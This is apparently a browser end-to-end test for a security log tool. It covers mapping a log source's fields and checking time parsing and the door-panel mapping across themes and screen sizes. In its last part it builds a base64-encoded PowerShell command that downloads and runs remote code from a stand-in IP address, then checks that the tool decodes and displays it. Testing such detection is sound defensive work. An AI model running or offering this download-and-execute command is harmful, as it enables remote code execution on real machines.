// Mapping the fields of a log source: a sample is pasted, read, picked from and saved; then an event that carries something packed.
import assert from "node:assert/strict";
import { assertAccessible, assertLooksRight, assertNoErrors, assertNoSidewaysScroll, leads, openPage, picture, signInOnce, sizes, text, themes, until, visit, withBrowser } from "./browser.mjs";

const lines = ["03.03.2026 07:30:00", "gestern"].map((wann) => JSON.stringify({ wann, ort: "Lyon", tuer: "Dock 3", wer: "anna", wie: "forced" }));

async function fill(page) {
  await visit(page, "/sources/1/mapping");
  await page.fill("textarea[name=sample]", lines.join("\n"));
  await leads(page, () => page.click('button:has-text("Read the sample")'));
}

await withBrowser(async (browser) => {
  const page = await openPage(browser);
  await signInOnce(page, process.env.WATCHKEEP_ONCE);
  const says = (words) => until(String(words), async () => words.test(await text(page, "#mapping-reading")));
  await visit(page, "/r/log_source/1");
  await page.keyboard.press("m");
  await page.waitForURL(/\/sources\/1\/mapping$/);
  await fill(page);
  await says(/2 read/);

  // What is picked is seen at once, each refusal with its line.
  await page.selectOption("select[name=time]", "wann");
  await page.selectOption("select[name=form]", "pattern");
  await says(/cannot be saved write the pattern/);
  await page.fill("input[name=pattern]", "%d.%m.%Y %H:%M:%S");
  await page.fill("input[name=zone]", "Europe/Berlin");
  await says(/1 of 2 not as they should be Line 2: the time .gestern/);
  await page.click("summary:has-text('Doors and alarms')");
  await page.selectOption('select[name="panel-door"]', "tuer");
  await page.selectOption('select[name="panel-site"]', "ort");
  await page.selectOption('select[name="panel-holder"]', "wer");
  await page.selectOption('select[name="panel-result"]', "wie");
  await says(/Lyon anna forced forced: Dock 3.*physical \/ door/);
  await picture(page, "mapping-filled");
  await assertNoErrors(page, "mapping");
  await leads(page, () => page.click('button:has-text("Save")'));
  assert.match(await text(page, "main"), /What its fields mean.*time.zone = Europe\/Berlin/);

  // The filled page in every look.
  const state = await page.context().storageState();
  for (const theme of themes) {
    for (const size of Object.keys(sizes)) {
      const look = await openPage(browser, { theme, size, strict: false, state });
      await fill(look);
      const what = `mapping-read-${theme}-${size}`;
      await picture(look, what);
      await assertNoSidewaysScroll(look, what);
      await assertAccessible(look, what);
      await look.context().close();
    }
  }

  // An event that carries a command in base64 shows it as words, and its bytes page by page.
  const packed = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "utf16le").toString("base64");
  const event = JSON.stringify({ host: "ws-9", message: "started", CommandLine: `powershell.exe -nop -enc ${packed}`, more: "x y ".repeat(600) });
  await visit(page, "/events");
  await page.click('button:has-text("Upload a log")');
  await page.fill("#upload-source", "packed");
  await page.setInputFiles("#upload-file", { name: "a.json", mimeType: "application/json", buffer: Buffer.from(event) });
  await leads(page, () => page.click("#upload-form button[type=submit]"));
  await leads(page, () => page.click('main table a[href^="/events/"]'));
  const shown = await text(page, "main");
  assert.match(shown, /Unpacked 1 CommandLine base64 → text in UTF-16 Copy IEX \(New-Object Net\.WebClient\)/);
  assert.match(shown, /0 to 1024 of \d+ bytes/);
  const path = new URL(page.url()).pathname;
  await page.click('a:has-text("Bytes after")');
  await page.waitForURL(/at=1024/);
  assert.match(await text(page, "#bytes"), /^00000400 /);
  await assertNoErrors(page, "event");
  await assertLooksRight(browser, path, "event-packed", await page.context().storageState());
});
